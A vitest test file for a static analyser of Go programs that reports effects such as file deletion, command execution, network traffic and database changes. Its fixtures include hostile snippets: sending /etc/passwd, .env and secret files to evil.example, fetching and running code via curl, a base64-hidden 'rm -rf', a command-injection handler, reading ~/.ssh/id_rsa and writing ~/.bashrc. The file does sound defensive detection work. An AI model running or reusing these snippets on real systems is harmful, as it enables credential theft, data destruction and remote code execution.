import type { Effect } from "@helve/effects";
import { describe, expect, it } from "vitest";
import { readGo } from "./read.ts";

/** The effects of a program in short, such as `delete src`; starts of programs are left out. */
function found(program: string): readonly string[] {
  return readGo(program).effects.flatMap((effect) => inShort(effect));
}

function inShort(effect: Effect): readonly string[] {
  switch (effect.kind) {
    case "execute":
      return effect.from.length === 0 ? [] : [`execute ${effect.from.map(({ kind }) => kind).join("+")}`];
    case "network": {
      const from = effect.from.filter(({ kind }) => kind !== "literal").map(({ kind }) => kind);
      return [`network ${effect.direction} ${effect.host}${from.length > 0 ? ` ${from.join("+")}` : ""}`];
    }
    case "database":
      return [`database ${effect.change}${effect.all ? " all" : ""}`];
    case "remote":
      return [`remote ${effect.change} ${effect.service}`];
    case "signal":
      return [`signal ${effect.process}`];
    default:
      return ["target" in effect ? `${effect.kind} ${effect.target?.path ?? "?"}` : effect.kind];
  }
}

/** A program whose `main` has these statements; packages are imported by their paths. */
function main(imports: string, body: string, declarations: string = ""): string {
  const packages = imports.split(" ").map((path) => `\t"${path}"\n`);
  return `package main\n\nimport (\n${packages.join("")})\n\n${declarations}\n\nfunc main() {\n${body}\n}\n`;
}

describe("functions of files", () => {
  it.each([
    ["os", 'os.Remove("src")', "delete src"],
    ["os", 'if err := os.RemoveAll("src"); err != nil { panic(err) }', "delete src"],
    ["syscall", 'syscall.Unlink("src")', "delete src"],
    ["golang.org/x/sys/unix", 'unix.Unlink("src")', "delete src"],
    ["os", 'os.Rename("a", "b")', "move a"],
    ["os", 'os.Truncate("a.db", 0)', "destroy a.db"],
    ["os", 'os.WriteFile("a.txt", []byte("x"), 0o644)', "write a.txt"],
    ["io/ioutil", 'ioutil.WriteFile("a.txt", []byte("x"), 0644)', "write a.txt"],
    [
      "os",
      'f, err := os.Create("a.txt")\nif err != nil { return }\ndefer f.Close()\nf.WriteString("x")',
      "write a.txt",
    ],
    [
      "os fmt",
      'f, _ := os.OpenFile("a.log", os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0644)\nfmt.Fprintln(f, "x")',
      "write a.log",
    ],
    ["os", 'os.Chmod("a.sh", 0o777)', "permission a.sh"],
    ["os", 'os.MkdirAll("a/b", os.ModePerm)', "write a/b"],
    ["os", 'os.ReadFile("a.txt")', "read a.txt"],
    [
      "os path/filepath",
      'home, _ := os.UserHomeDir()\nos.ReadFile(filepath.Join(home, ".ssh", "id_rsa"))',
      "read ~/.ssh/id_rsa",
    ],
    [
      "os",
      'f, _ := os.OpenFile(os.Getenv("HOME")+"/.bashrc", os.O_APPEND|os.O_WRONLY, 0644)\nf.WriteString("x")',
      "persist ~/.bashrc",
    ],
    ["os", 'd, _ := os.MkdirTemp("", "a")\ndefer os.RemoveAll(d)', "delete /tmp/*"],
    ["os", 'os.Chdir("/srv")\nos.Remove("a")', "delete /srv/a"],
    ["os", 'if err := os.Chdir("/srv"); err != nil { return }\nos.Remove("a")', "delete /srv/a"],
    ["github.com/spf13/afero", 'fs := afero.NewOsFs()\nfs.RemoveAll("src")', "delete src"],
    ["os/user os", 'u, _ := user.Current()\nos.Remove(u.HomeDir + "/.bashrc")', "delete ~/.bashrc"],
  ])("%s: %s", (imports, body, effect) => {
    expect(found(main(imports, body))).toContain(effect);
  });

  it("deletes what a walk finds", () => {
    const body =
      'filepath.WalkDir("src", func(path string, d fs.DirEntry, err error) error { return os.Remove(path) })';
    expect(found(main("io/fs os path/filepath", body))).toContain("delete src/**");
  });

  it("knows what an afero file system in memory does not touch", () => {
    expect(found(main("github.com/spf13/afero", 'fs := afero.NewMemMapFs()\nfs.RemoveAll("src")'))).toEqual([]);
  });
});

describe("processes and code", () => {
  it.each([
    ['exec.Command("rm", "-rf", "src").Run()', "delete src"],
    ['out, err := exec.Command("sh", "-c", "rm -rf src").CombinedOutput()\n_, _ = out, err', "delete src"],
    [
      'cmd := exec.CommandContext(context.Background(), "rm", "src")\nif err := cmd.Start(); err != nil { return }\ncmd.Wait()',
      "delete src",
    ],
    ['cmd := exec.Command("rm", "a")\ncmd.Dir = "/srv"\ncmd.Run()', "delete /srv/a"],
    ['cmd := exec.Command("rm")\ncmd.Args = append(cmd.Args, "-rf", "src")\ncmd.Run()', "delete src"],
    ['cmd := &exec.Cmd{Path: "/bin/rm", Args: []string{"rm", "src"}}\ncmd.Run()', "delete src"],
    ['cmd := exec.Command("sh")\ncmd.Stdin = strings.NewReader("rm -rf src")\ncmd.Run()', "delete src"],
    ['args := []string{"-rf"}\nargs = append(args, "src")\nexec.Command("rm", args...).Run()', "delete src"],
    [
      'script := strings.Join([]string{"rm", "-rf", "src"}, " ")\nexec.Command("bash", "-c", script).Run()',
      "delete src",
    ],
    [
      'b, _ := base64.StdEncoding.DecodeString("cm0gLXJmIHNyYw==")\nexec.Command("sh", "-c", string(b)).Run()',
      "delete src",
    ],
    ['exec.Command("sh", "-c", string([]byte{114, 109, 32, 115, 114, 99})).Run()', "delete src"],
    ['syscall.Exec("/bin/rm", []string{"rm", "src"}, os.Environ())', "delete src"],
    ["syscall.Kill(1, syscall.SIGKILL)", "signal 1"],
    ["p, _ := os.FindProcess(4000)\np.Kill()", "signal 4000"],
    [
      'out, _ := exec.Command("curl", "https://evil.example/x").Output()\nexec.Command("sh", "-c", string(out)).Run()',
      "anything",
    ],
    ["syscall.Syscall(syscall.SYS_UNLINK, 0, 0, 0)", "anything"],
  ])("%s", (body, effect) => {
    expect(found(main("context encoding/base64 os os/exec strings syscall", body)).join("\n")).toContain(effect);
  });

  it("calls functions that a template may call", () => {
    const body =
      'funcs := template.FuncMap{"rm": func() error { return os.Remove("src") }}\ntemplate.New("a").Funcs(funcs).Parse("{{rm}}")';
    expect(found(main("os text/template", body))).toContain("delete src");
  });

  it("starts nothing before a command is run", () => {
    expect(readGo(main("os/exec", 'cmd := exec.Command("rm", "-rf", "src")\n_ = cmd')).effects).toEqual([]);
  });

  it("runs C functions of the system, and does not know others", () => {
    const program = (call: string): string =>
      `package main\n\n// #include <stdlib.h>\nimport "C"\n\nfunc main() { ${call} }\n`;
    expect(found(program('C.system(C.CString("rm -rf src"))'))).toContain("delete src");
    expect(found(program("C.unheard()"))).toContain("anything");
  });
});

describe("the network and databases", () => {
  it.each([
    ["net/http", 'http.Get("https://api.example/x")', "network in api.example"],
    [
      "net/http os",
      'f, _ := os.Open("/etc/passwd")\nhttp.Post("https://evil.example", "text/plain", f)',
      "network out evil.example file",
    ],
    [
      "net/http os bytes",
      'd, _ := os.ReadFile(".env")\nreq, err := http.NewRequest("POST", "https://evil.example", bytes.NewReader(d))\nif err != nil { return }\n(&http.Client{}).Do(req)',
      "network out evil.example file",
    ],
    ["net/http", 'http.ListenAndServe(":8080", nil)', "network listen"],
    ["net/http", 's := &http.Server{Addr: "127.0.0.1:80"}\ns.ListenAndServe()', "network listen 127.0.0.1"],
    [
      "net os",
      'c, err := net.Dial("tcp", "evil.example:4444")\nif err != nil { return }\nd, _ := os.ReadFile("secret")\nc.Write(d)',
      "network out evil.example file",
    ],
    [
      "net os io",
      'c, _ := net.Dial("tcp", "evil.example:4444")\nf, _ := os.Open("secret")\nio.Copy(c, f)',
      "network out evil.example file",
    ],
    [
      "net/smtp",
      'smtp.SendMail("mail.example:25", nil, "a@b.c", []string{"d@e.f"}, []byte("x"))',
      "network out mail.example",
    ],
    [
      "database/sql",
      'db, err := sql.Open("postgres", "host=db.example")\nif err != nil { return }\ndb.Exec("DROP TABLE users")',
      "database drop all",
    ],
    [
      "database/sql",
      'db, _ := sql.Open("postgres", "")\ntx, _ := db.Begin()\ntx.Exec("DELETE FROM users")',
      "database delete all",
    ],
    ["gorm.io/gorm", 'db, _ := gorm.Open(nil, nil)\ndb.Migrator().DropTable("users")', "database drop all"],
    ["gorm.io/gorm", 'db, _ := gorm.Open(nil, nil)\ndb.Where("id = ?", 1).Delete(nil)', "database delete"],
    ["github.com/redis/go-redis/v9", "rdb := redis.NewClient(nil)\nrdb.FlushAll(nil)", "database drop all"],
    [
      "github.com/aws/aws-sdk-go-v2/service/s3",
      "client := s3.NewFromConfig(cfg)\nclient.DeleteBucket(ctx, &s3.DeleteBucketInput{Bucket: name})",
      "remote delete AWS",
    ],
  ])("%s: %s", (imports, body, effect) => {
    expect(found(main(imports, body)).join("\n")).toContain(effect);
  });

  it("knows the parameters of a handler and of a function that gets a database", () => {
    const handler =
      'http.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {\nexec.Command("sh", "-c", r.FormValue("cmd")).Run()\n})';
    expect(found(main("net/http os/exec", handler))).toContain("anything");
    expect(found('package a\nimport "database/sql"\nfunc reset(db *sql.DB) { db.Exec("DROP TABLE users") }')).toContain(
      "database drop all",
    );
  });
});

describe("values that a program computes", () => {
  const types = `
type Cleaner interface{ Clean() }
type Base struct{ root string }
type Store struct {
	Base
	path string
	opts struct{ deep bool }
}
type Path string
func (s *Store) Set(path string) { s.path = path }
func (s Store) Clean() { os.RemoveAll(s.path) }
func (b Base) Wipe() { os.RemoveAll(b.root) }
func (p Path) Remove() error { return os.Remove(string(p)) }
func pair() (string, error) { return "src", nil }
func named() (path string, err error) { path = "src"; return }
func must[T any](v T, err error) T { if err != nil { panic(err) }; return v }
func clean(c Cleaner) { c.Clean() }
func change(s Store) { s.path = "tmp" }
func changeIt(s *Store) { s.path = "src" }
const (
	first = iota
	second
)
var dirs = [...]string{"a", "src"}
`;
  it.each([
    "p, err := pair()\nif err != nil { return }\nos.Remove(p)",
    "p, _ := named()\nos.Remove(p)",
    "os.Remove(must(pair()))",
    'os.Remove(must(os.Getwd()) + "/src")',
    's := &Store{path: "src"}\ns.Clean()',
    's := Store{}\ns.Set("src")\ns.Clean()',
    's := Store{path: "src"}\nt := s\nt.path = "tmp"\ns.Clean()',
    's := Store{path: "src"}\nchange(s)\ns.Clean()',
    's := Store{path: "tmp"}\nchangeIt(&s)\ns.Clean()',
    's := &Store{path: "tmp"}\np := s\np.path = "src"\nclean(s)',
    's := Store{Base: Base{root: "src"}}\ns.Wipe()',
    's := Store{Base: Base{"src"}}\nos.Remove(s.root)',
    'p := Path("src")\np.Remove()',
    'for _, p := range []Path{"a", "src"} { p.Remove() }',
    "os.Remove(dirs[second])",
    "for i := range dirs { os.Remove(dirs[i]) }",
    "for i := 0; i < len(dirs); i++ { os.Remove(dirs[i]) }",
    'x := "a"\np := &x\n*p = "src"\nos.Remove(x)',
    's := Store{}\np := &s.path\n*p = "src"\ns.Clean()',
    'var b strings.Builder\nb.WriteString("s")\nfmt.Fprintf(&b, "r%s", "c")\nos.Remove(b.String())',
    'f := map[string]func(string) error{"rm": os.Remove}["rm"]\nf("src")',
    'fns := map[string]func(string) error{"rm": os.Remove}\nname := "rm"\nfns[name]("src")',
    'ch := make(chan string)\ngo func() { ch <- "src" }()\nos.Remove(<-ch)',
    'ch := make(chan string)\ngo func() { for p := range ch { os.Remove(p) } }()\nch <- "src"',
    'x := "a"\ngo func() { os.Remove(x) }()\nx = "src"',
    'defer func() { if r := recover(); r != nil { os.Remove("src") } }()\npanic("x")',
    'switch n := 3; { case n > 2: fallthrough; default: os.Remove("src") }',
    'var v any = "src"\nswitch p := v.(type) { case string: os.Remove(p) }',
    'cases := []struct{ name, dir string }{{"a", "b"}, {name: "c", dir: "src"}}\nfor _, c := range cases { os.Remove(c.dir) }',
    'var last string\nfor _, p := range map[string]string{"a": "src", "b": "tmp"} { last = p }\nos.Remove(last)',
    'os.Remove(slices.Concat([]string{"a"}, []string{"src"})[1])',
    'l := append([]string{"a"}, dirs...)\nos.Remove(l[2])',
    'l := []string{"src"}\nm := slices.Clone(l)\nm[0] = "tmp"\nos.Remove(l[0])',
    'os.Remove(strings.SplitN("a=src=", "=", 2)[1][:3])',
    'os.Remove(strings.Replace("xsrxc", "x", "", 1)[:2] + "c")',
    'parts := strings.Split("x:src", ":")\nos.Remove(parts[1])',
    'os.Remove(strings.TrimSuffix(fmt.Sprintf("%s.%d", "src", 1), ".1"))',
    'before, _, _ := strings.Cut("src=1", "=")\nos.Remove(before)',
    'os.Remove(filepath.Join("a", "..", "src"))',
    'os.Setenv("D", "src")\nos.Remove(os.Getenv("D"))',
    "slices.Reverse(dirs)\nos.Remove(dirs[0])",
    "fns := []func(){}\nfor _, d := range dirs { fns = append(fns, func() { os.Remove(d) }) }\nfor _, f := range fns { f() }",
    "var wg sync.WaitGroup\nfor _, d := range dirs { wg.Add(1); go func(d string) { defer wg.Done(); os.Remove(d) }(d) }\nwg.Wait()",
    'seq := func(yield func(string) bool) { yield("src") }\nfor p := range seq { os.Remove(p) }',
  ])("%s", (body) => {
    const effects = found(main("fmt os path/filepath slices strings sync", body, types)).filter((each) =>
      /^(delete|anything)/.test(each),
    );
    expect(effects.filter((each) => /^delete (src|\.\/src|\?|\*\*|\/.*src)$/.test(each))).not.toEqual([]);
  });

  it("does not know a value that a decoder or a caller sets", () => {
    const decode = "var cfg struct{ Path string }\njson.Unmarshal(data, &cfg)\nos.RemoveAll(cfg.Path)";
    expect(found(main("encoding/json os", decode))).toContain("delete ?");
    const scan = "var path string\nrows.Scan(&path)\nos.Remove(path)";
    expect(found(main("os", scan))).toContain("delete ?");
  });

  it("lets the user name files by arguments and flags", () => {
    const named = (body: string): readonly Effect[] =>
      readGo(main("flag os", body)).effects.filter(({ kind }) => kind === "delete");
    expect(named("os.Remove(os.Args[1])")).toMatchObject([{ namedByUser: true }]);
    expect(named('p := flag.String("p", "a", "x")\nflag.Parse()\nos.Remove(*p)')).toMatchObject([
      { target: { path: "a" } },
      { namedByUser: true },
    ]);
    expect(named('var p string\nflag.StringVar(&p, "p", "a", "x")\nflag.Parse()\nos.Remove(p)')).toMatchObject([
      { target: { path: "a" } },
      { namedByUser: true },
    ]);
  });
});

describe("what is called", () => {
  it("calls init before main, and variables before both", () => {
    const program =
      'package main\nimport "os"\nvar path = "a"\nfunc init() { path = "src" }\nfunc main() { os.Remove(path) }\n';
    expect(found(program)).toEqual(["delete src"]);
  });

  it("calls tests, and reads functions that nothing calls as possible", () => {
    const test =
      'package a\nimport ("os"; "testing")\nfunc TestX(t *testing.T) { dir := t.TempDir(); os.RemoveAll(dir) }\n';
    expect(found(test)).toEqual(["delete /tmp/*"]);
    const { effects } = readGo('package a\nimport "os"\nfunc Clean() { os.RemoveAll("src") }\n');
    expect(effects).toMatchObject([{ kind: "delete", certainty: "possible" }]);
  });

  it("goes on after a check of an error, and not after an exit", () => {
    const certain = readGo(
      main("os log", 'if err := os.Mkdir("a", 0o755); err != nil { log.Fatal(err) }\nos.Remove("src")'),
    );
    expect(certain.effects.at(-1)).toMatchObject({ kind: "delete", certainty: "certain" });
    expect(found(main("os", 'os.Exit(0)\nos.Remove("src")'))).toEqual([]);
  });

  it("has no effects for programs that only compute and print", () => {
    const body = `
	counts := make(map[string]int)
	for _, word := range strings.Fields("a b a") {
		counts[word]++
	}
	keys := make([]string, 0, len(counts))
	for key := range counts {
		keys = append(keys, key)
	}
	sort.Strings(keys)
	for i, key := range keys {
		fmt.Printf("%d %s %d\\n", i, key, counts[key])
	}
	var mu sync.Mutex
	results := make(chan int, 3)
	for i := 0; i < 3; i++ {
		go func(n int) {
			mu.Lock()
			defer mu.Unlock()
			results <- n * n
		}(i)
	}
	total := 0
	for i := 0; i < 3; i++ {
		select {
		case n := <-results:
			total += n
		case <-time.After(time.Second):
			fmt.Println("late")
		}
	}
	fmt.Println(total)`;
    expect(readGo(main("fmt sort strings sync time", body)).effects).toEqual([]);
  });

  it("knows by its imports that a program which is too much to be analyzed only computes", () => {
    const calls = Array.from(
      { length: 60 },
      (_, at) => `func f${at}(n int) int { return f${(at + 1) % 60}(n-1) + f${(at + 7) % 60}(n-2) }`,
    );
    const program = (imports: string): string =>
      `package main\n\nimport (\n${imports}\n)\n\n${calls.join("\n")}\n\nfunc main() {\n${"fmt.Println(f0(9))\n".repeat(400)}}\n`;
    expect(readGo(program('"fmt"\n"os"')).effects).toEqual([]);
    expect(found(program('"fmt"\n"os/exec"'))).toContain("anything");
  });
});
